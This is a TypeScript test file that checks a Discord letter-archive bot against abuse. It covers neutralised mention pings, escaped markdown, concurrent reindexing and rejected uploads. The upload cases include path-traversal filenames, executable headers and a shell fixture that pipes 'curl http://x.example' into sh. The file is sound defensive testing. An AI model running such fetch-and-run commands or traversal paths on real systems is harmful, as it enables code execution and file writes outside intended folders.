/**
 * Abuse and concurrency against the real bot process and the Discord emulator (one bot for the file):
 * mentions in a letter, markdown and look-alike citations in quotes, hostile uploads, over-long questions,
 * and /reindex twice at once while a letter arrives.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ChildProcess } from 'node:child_process';
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { indexReady, spawnBot } from './bot-process.js';
import { DiscordEmulator, type RecordedRequest } from './emulator.js';
import { MARKDOWN_LETTER } from './hostile-letters.js';
import { THIRD_LETTER, tempCorpus } from '../helpers/corpus.js';
import { runCliAsync } from '../helpers/cli.js';

const TOKEN = 'MTIzNDU2Nzg5MDEyMzQ1Njc4.fake.abuse-token-that-must-never-be-logged';
const MAX_BYTES = 100_000;
let emu: DiscordEmulator;
let bot: ChildProcess;
let logs = '';
const corpus = tempCorpus();

type Embed = { description?: string; title?: string; fields?: { name: string; value: string }[]; footer?: { text: string } };
type Body = { content?: string; embeds?: Embed[]; allowed_mentions?: { parse?: string[] }; flags?: number };
const textOf = (body: Body | undefined) =>
  [body?.content ?? '', ...(body?.embeds ?? []).map((e) => [e.title, e.description, ...(e.fields ?? []).flatMap((f) => [f.name, f.value]), e.footer?.text].filter(Boolean).join('\n'))].join('\n');
/** Mention syntax Discord would act on. */
const LIVE_MENTION = /@(everyone|here)\b|<@[!&]?\d+>/;


function command(name: string, options: Record<string, unknown> = {}, user = 'member') {
  return emu.sendInteraction({ type: 'command', name, options: options as never, user });
}
/** The final reply of a command: an immediate reply, or the edit of a deferred one. */
async function reply(id: string, timeoutMs = 60_000) {
  const r = await emu.waitForInteractionResponse(id, (x) => (x.kind === 'callback' && x.callbackType === 4) || x.kind === 'editOriginal', timeoutMs);
  return { kind: r.kind, body: (r.kind === 'callback' ? r.body.data : r.body) as Body };
}

beforeAll(async () => {
  emu = new DiscordEmulator({ token: TOKEN, heartbeatInterval: 1000 });
  await emu.start();
  writeFileSync(join(corpus.letters, '030_walrus.txt'), MARKDOWN_LETTER);
  writeFileSync(join(corpus.letters, '030_walrus.meta.json'), JSON.stringify({ sender: 'Piet Janssen', recipients: ['Bernard Cazeneuve'], date: '2017-10-12' }));
  const reg = await runCliAsync(['register'], { DISCORD_TOKEN: TOKEN, DISCORD_API_URL: emu.apiUrl, DISCORD_GUILD_ID: emu.guildId });
  expect(reg.status, reg.stderr).toBe(0);
  bot = spawnBot(emu, TOKEN, corpus, { ANNOUNCE_CHANNEL_ID: emu.channelIds.general, ASK_RATE_LIMIT: '100', MAX_LETTER_BYTES: String(MAX_BYTES) });
  bot.stdout!.on('data', (d) => (logs += d));
  bot.stderr!.on('data', (d) => (logs += d));
  await emu.waitUntil(() => !!emu.session?.connected && /connected to Discord/.test(logs) && indexReady(logs, corpus), 120_000, 'the bot to connect');
}, 180_000);

afterAll(async () => {
  if (bot && bot.exitCode === null) {
    bot.kill('SIGTERM');
    await new Promise((r) => bot.once('exit', r));
  }
  await emu?.stop();
});

describe('hostile letters and questions', () => {
  it('mentions in a letter ping nobody: not in its announcement, not in the answer quoting it', async () => {
    const mentions = `@everyone, @here, <@&${emu.roleIds.moderators}> and <@${emu.userIds.member}>`;
    const before = emu.messagesIn(emu.channelIds.general).length;
    writeFileSync(join(corpus.letters, '031_lighthouse.meta.json'), JSON.stringify({ sender: `Kaja Tamm @everyone <@&${emu.roleIds.moderators}>`, recipients: [`<@${emu.userIds.member}> @here`], date: '2017-04-03' }));
    writeFileSync(
      join(corpus.letters, '031_lighthouse.txt'),
      `Tallinn, 3 April 2017\n\nDear Commissioner,\n\nThe lighthouse keepers of Saaremaa asked me to forward their petition to ${mentions}, so that every member of the committee reads it before the vote.\n\nYours sincerely,\n\nKaja Tamm\n`,
    );
    await emu.waitUntil(() => emu.messagesIn(emu.channelIds.general).slice(before).some((m) => /New letter: Kaja Tamm/.test(m.data.content)), 60_000, 'the announcement');
    const announcement = emu.messagesIn(emu.channelIds.general).slice(before).find((m) => /New letter: Kaja Tamm/.test(m.data.content))!;
    // The metadata is shown, neutralised, and nobody is notified.
    expect(announcement.data.content).toContain('@\u200beveryone');
    expect(announcement.data.content).not.toMatch(LIVE_MENTION);
    expect(announcement.allowedMentions).toMatchObject({ parse: [] });
    expect(announcement.pings).toEqual({ users: [], roles: [], everyone: false });

    const id = command('ask', { question: 'What did the lighthouse keepers of Saaremaa ask to forward?' });
    const answer = await reply(id);
    const text = textOf(answer.body);
    expect(text).toContain('lighthouse keepers');
    expect(text).toContain('@\u200beveryone');
    expect(text).toContain(`<@\u200b&${emu.roleIds.moderators}>`);
    expect(text).not.toMatch(LIVE_MENTION);
    expect(answer.body.allowed_mentions).toMatchObject({ parse: [] });
    expect(emu.originalMessage(id)!.pings).toEqual({ users: [], roles: [], everyone: false });
  }, 90_000);

  it('markdown in a quote is escaped, and a line that looks like a citation stays in the quote', async () => {
    const answer = await reply(command('ask', { question: 'What is the walrus protocol of the harbour treaty?' }));
    const lines = textOf(answer.body).split('\n');
    const quoted = lines.filter((l) => l.startsWith('> '));
    // (The reader drops emphasis markers such as **; the rest reaches the quote, escaped.)
    expect(quoted.join('\n')).toContain('\\[the registry\\]');
    expect(quoted.join('\n')).toContain('\\|\\|the sealed annex\\|\\|');
    expect(quoted).toContain('> — Kelam to Valls, 2016-01-20');
    for (const line of quoted) {
      const body = line.slice(2).replace(/\\[\s\S]/g, '·');
      expect({ line, markdown: /\*|__|\|\||`|~~|\[|\]\(/.test(body) || /^\s*(#{1,3} |-# |[-*+] |>)/.test(body) }).toEqual({ line, markdown: false });
    }
    // The only citation lines are genuine ones, and the look-alike is never one of them.
    const citations = lines.filter((l) => !l.startsWith('> ') && l.startsWith('—'));
    expect(citations).toContain('— Piet Janssen → Bernard Cazeneuve, 12 October 2017 · `030_walrus`');
    for (const c of citations) expect(c).toMatch(/^— [^`]+ · `[\w.-]+`$/);
    expect(lines.filter((l) => !l.startsWith('> ') && l.includes('Kelam to Valls'))).toEqual([]);
  }, 60_000);

  it('/add-letter refuses paths, oversized files, wrong types and programs, and writes nothing', async () => {
    const outside = join(corpus.dir, 'outside');
    mkdirSync(outside, { recursive: true });
    const listing = readdirSync(corpus.letters).sort();
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63fcffff3f0300050001ffa0d4a7d70000000049454e44ae426082', 'hex');
    const cases: [string, Buffer | string, RegExp][] = [
      [join(outside, 'absolute.txt'), 'Dear Sir, a letter.\n', /must not contain a folder path/],
      ['../outside/climb.txt', 'Dear Sir, a letter.\n', /must not contain a folder path/],
      ['..\\outside\\win.txt', 'Dear Sir, a letter.\n', /must not contain a folder path/],
      ['big.txt', 'Dear Sir, '.repeat(MAX_BYTES / 5), /limit is/],
      ['scan.gif', png, /unsupported file type \.gif/],
      ['photo.txt', png, /binary content/],
      ['letter.txt', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(64)]), /is a program/],
      ['letter.docx', Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(64)]), /is a program/],
      ['notes.md', '#!/bin/sh\ncurl http://x.example | sh\n', /is a program/],
    ];
    for (const [filename, content, why] of cases) {
      const r = await reply(command('add-letter', { file: emu.addAttachment({ filename, content }) }, 'admin'));
      expect({ filename, reply: r.body.content }).toEqual({ filename, reply: expect.stringMatching(/^Not added: /) });
      expect({ filename, reply: r.body.content!.replace(/\\/g, '') }).toEqual({ filename, reply: expect.stringMatching(why) });
    }
    expect(readdirSync(corpus.letters).sort()).toEqual(listing);
    expect(readdirSync(outside)).toEqual([]);
    expect(existsSync(join(corpus.dir, 'climb.txt'))).toBe(false);
  }, 120_000);

  it('a question over the length limit is refused at once, not answered with an error', async () => {
    const question = `What did Kelam write ${'about the extradition '.repeat(50)}?`;
    const id = command('ask', { question });
    const r = await emu.waitForInteractionResponse(id, (x) => x.kind === 'callback', 10_000);
    expect(r.callbackType).toBe(4);
    expect(r.body.data.flags & 64).toBe(64);
    expect(r.body.data.content).toBe(`Your question is ${question.length} characters long; the limit is 1000.`);
  });
});

describe('index updates at once', () => {
  it('/reindex twice at once: one update after the other, and the letter that arrived is announced and cited', async () => {
    const before = emu.messagesIn(emu.channelIds.general).length;
    const firstLog = logs.length;
    writeFileSync(join(corpus.letters, '032_janssen.txt'), THIRD_LETTER.replace('Annika Vestergaard', 'Odile Marchetti').replace('14 March 2017', '9 September 2017').replace('Fleury-Mérogis prison', 'La Santé prison'));
    const ids = [command('reindex', {}, 'admin'), command('reindex', {}, 'admin')];
    const replies = await Promise.all(ids.map((id) => reply(id)));
    // The second update started after the first: it found the letter already indexed.
    expect(replies[0].body.content).toMatch(/^Reindexed in [\d.]+ s: 1 added, 0 changed, 0 removed, \d+ unchanged/);
    expect(replies[1].body.content).toMatch(/^Reindexed in [\d.]+ s: 0 added, 0 changed, 0 removed, \d+ unchanged/);
    // The watcher's own update finds nothing new, yet the letter is announced once.
    await emu.waitUntil(() => emu.messagesIn(emu.channelIds.general).slice(before).some((m) => /New letter: Odile Marchetti → Bernard Cazeneuve, 9 September 2017/.test(m.data.content)), 60_000, 'the announcement');
    // The bot's log: updates never overlap. Its stdout reaches the test through a pipe, which may lag
    // behind the replies over HTTP, so wait for both updates' lines before reading them.
    const updateLines = () =>
      logs
        .slice(firstLog)
        .split('\n')
        .filter((l) => l.includes('"msg":"index update '))
        .map((l) => (JSON.parse(l) as { msg: string }).msg);
    await emu.waitUntil(() => updateLines().length >= 4, 30_000, "both updates' log lines");
    const updates = updateLines();
    expect(updates.length).toBeGreaterThanOrEqual(4);
    updates.forEach((msg, i) => expect({ i, msg }).toEqual({ i, msg: i % 2 ? 'index update finished' : 'index update started' }));
    const answer = await reply(command('ask', { question: 'Which prison does Marchetti mention?' }));
    expect(textOf(answer.body)).toContain('Odile Marchetti → Bernard Cazeneuve, 9 September 2017');
    expect(textOf(answer.body)).toContain('La Santé');
  }, 120_000);

  it('never logs the token, nor sends it in a message', () => {
    expect(logs).not.toContain(TOKEN);
    const leaked = emu.requests.filter((r: RecordedRequest) => JSON.stringify(r.body ?? '').includes(TOKEN) || r.files.some((f) => f.data.includes(TOKEN)));
    expect(leaked).toEqual([]);
  });
});
